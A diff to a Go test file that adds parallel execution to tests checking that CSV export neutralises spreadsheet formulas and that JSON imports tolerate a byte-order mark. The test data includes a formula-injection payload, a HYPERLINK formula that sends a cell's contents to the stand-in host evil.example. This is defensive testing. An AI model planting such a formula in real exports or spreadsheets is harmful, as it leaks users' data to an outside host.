@@ -19,6 +19,7 @@ import (
 // would run as a formula; reading the files back, with or without the BOM,
 // undoes it, so that export → import gives back exactly what was stored.
 func TestExportCSV_FormulasNeutralisedAndRoundTripExact(t *testing.T) {
+	t.Parallel()
 	ctx := context.Background()
 	src := MustOpenDB(t)
 	hyperlink := `=HYPERLINK("https://evil.example/?d="&A1,"Click for details")`
@@ -102,6 +103,7 @@ func TestExportCSV_FormulasNeutralisedAndRoundTripExact(t *testing.T) {
 // A JSON export saved with a byte-order mark in front (as some editors do)
 // is imported like one without.
 func TestImportFile_JSONWithBOM(t *testing.T) {
+	t.Parallel()
 	ctx := context.Background()
 	src := MustOpenDB(t)
 	mustCreateClaim(t, src, `=HYPERLINK("https://evil.example","Click") stays as it was.`)
